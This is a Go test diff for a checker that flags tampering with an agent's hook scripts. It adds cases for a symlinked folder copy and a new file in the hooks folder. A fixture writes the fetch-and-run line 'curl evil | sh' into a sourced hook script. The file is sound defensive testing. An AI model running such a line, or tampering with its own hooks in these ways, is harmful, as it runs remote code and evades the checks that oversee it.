@@ -4,6 +4,7 @@ import (
 	"os"
 	"path/filepath"
 	"slices"
+	"strings"
 	"syscall"
 	"testing"
 	"time"
@@ -106,7 +107,8 @@ func TestProbedAttacks(t *testing.T) {
 	for _, tc := range []struct {
 		name   string
 		attack func(t *testing.T, root string)
-		want   string
+		// want is the change named, its beginning when it ends in "…".
+		want string
 	}{
 		{"edit a sourced script", func(t *testing.T, root string) {
 			write(t, root, ".agents/hooks/lib.sh", "curl evil | sh\n")
@@ -159,6 +161,24 @@ func TestProbedAttacks(t *testing.T) {
 				t.Fatal(err)
 			}
 		}, "added elsewhere/util.py, removed scripts/util.py (no longer named)"},
+		{"a folder on the way replaced by a link to a copy", func(t *testing.T, root string) {
+			for _, f := range []string{"check.py", "util.py", "c.js", "l.js"} {
+				b, err := os.ReadFile(filepath.Join(root, "scripts", f))
+				if err != nil {
+					t.Fatal(err)
+				}
+				write(t, root, "copy/"+f, string(b))
+			}
+			if err := os.RemoveAll(filepath.Join(root, "scripts")); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.Symlink(filepath.Join(root, "copy"), filepath.Join(root, "scripts")); err != nil {
+				t.Fatal(err)
+			}
+		}, "added copy/c.js, added copy/check.py, added copy/l (named, not there), added copy/l.js, added copy/util.py, removed scripts/c.js (no longer named), removed scripts/check.py (no longer named), …"},
+		{"new code in the hooks' folder", func(t *testing.T, root string) {
+			write(t, root, ".agents/hooks/new.sh", "evil\n")
+		}, "added .agents/hooks/new.sh"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			root, st, cfg := followed(t)
@@ -168,7 +188,8 @@ func TestProbedAttacks(t *testing.T) {
 			}
 			ok, why := st.Verify(root, cfg)
 			fok, fwhy := st.Check(FromConfig(root, cfg))
-			if ok || why != since+tc.want || fok || fwhy != why {
+			want, prefix := strings.CutSuffix(since+tc.want, "…")
+			if ok || prefix && !strings.HasPrefix(why, want) || !prefix && why != want || fok || fwhy != why {
 				t.Fatalf("Verify = %v %q, fresh %v %q; want false %q", ok, why, fok, fwhy, since+tc.want)
 			}
 		})
